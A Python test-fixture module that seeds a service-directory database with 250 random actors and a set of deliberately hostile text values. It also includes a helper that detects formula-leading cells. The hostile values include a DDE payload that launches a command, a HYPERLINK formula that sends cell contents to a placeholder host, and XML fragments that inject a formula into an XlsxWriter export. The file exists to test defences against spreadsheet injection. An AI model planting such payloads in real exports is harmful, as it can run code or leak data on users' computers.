"""Actors whose texts no program may run or lose, and 250 ordinary ones."""

import unicodedata
from datetime import UTC, date, datetime
from random import Random

from sqlalchemy import Connection

from importers import vocabulary
from tests.crowd import FUNCTIONS, SERVICES
from tests.makers import add_actor

# A Wednesday, 12:30 in Paris.
NOW = datetime(2026, 6, 10, 10, 30, tzinfo=UTC)
# What a list may hold and no spreadsheet may run, lose or break on. PostgreSQL refuses NUL.
HOSTILE = {
    "formula": '=HYPERLINK("https://exemple.invalid/?"&A1;"Cliquez")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+33 1 43 93 93 93",
    "minus": "-2+3",
    "at": "@SOMME(A1:A9)",
    "full width": "＝1+1",
    "unseen": "\u200b\u202e=1+1",
    "tab": "\t=1+1",
    "within": "Accueil, =1+1; +2 | @x",
    "error": "#N/A",
    "number": "0012",
    "day": "1/2",
    "lines": "Accueil\r\nde jour\n=1+1\u2028fin",
    "quotes": "Maison \"d'Enfants\"; 'x'",
    "controls": "Point\x01\x0b\x1f\x7f\x85d’écoute\ufffe\uffff",
    "code": "_x003D_1+1_x000D_",
    "markup": "<t>]]></t></is>&amp;<!--",
    # XlsxWriter 3.3 writes a text with these two ends as XML, the formula within it too.
    "rich text": '<r><t>a</t></r></is></c><c r="A99"><f>1+1</f></c><c><is><r><t>b</t></r>',
    "emoji": "Écoute 👩🏽‍⚕️ 💙",
    "long": "😀" * 20_000,
}


def hostile(connection: Connection) -> dict[str, str]:
    """Write an actor of Nord for each, the text wherever one may stand; return their ids."""
    ids = {}
    for number, (name, text) in enumerate(HOSTILE.items()):
        ids[name] = f"a{number:015x}"
        values = {"name": text, "acronym": text, "description": text, "address": text}
        phones = ["+33143939393", "+3221234567"]
        add_actor(
            connection,
            **values,
            public_id=ids[name],
            territory_code="59",
            category="sante",
            phones=phones,
            email="a@exemple.invalid",
            commune_code="59350",
            point="SRID=4326;POINT(-1.5 50.6)",
            precision="street",
            opening_hours='Mo-Fr 09:00-12:00 "=1+1"',
            verified_on=date(2026, 1, 31),
            age_min=3,
            age_max=17,
        )
    return ids


def several(connection: Connection) -> None:
    """Write 250 actors around Bobigny that differ in all that a search looks at."""
    chance = Random(23)  # noqa: S311 - the same each time
    words = vocabulary.load()
    open_ones = SERVICES
    for number in range(250):
        drawn = chance.random() < 0.8
        lon, lat = 2.44 + chance.uniform(-0.3, 0.3), 48.91 + chance.uniform(-0.2, 0.2)
        add_actor(
            connection,
            public_id=f"c{number:015x}",
            name=f"{chance.choice(['=Écoute', 'Accueil', 'CIDFF', '-Maison'])} {number}",
            category=chance.choice(open_ones),
            territory_code=chance.choice(["93", "93", "75", "59"]),
            functions=chance.sample(FUNCTIONS, 2),
            audiences=chance.sample(list(words.audiences), 1),
            age_min=chance.choice([None, 0, 12]),
            opening_hours=chance.choice([None, "24/7", "Mo-Fr 09:00-17:00", "Sa 09:00-17:00"]),
            point=f"SRID=4326;POINT({lon:.5f} {lat:.5f})" if drawn else None,
            precision="address" if drawn else None,
            covers_national=chance.random() < 0.03,
        )


# What begins a formula.
SIGNS = set("=+-@")


def runs(cell: str) -> bool:
    """Tell whether some program might take a cell for a formula: its first visible sign says so."""
    for sign in cell:
        if unicodedata.category(sign) in {"Cc", "Cf", "Zs", "Zl", "Zp"} or sign == '"':
            continue
        return unicodedata.normalize("NFKC", sign) in SIGNS
    return False
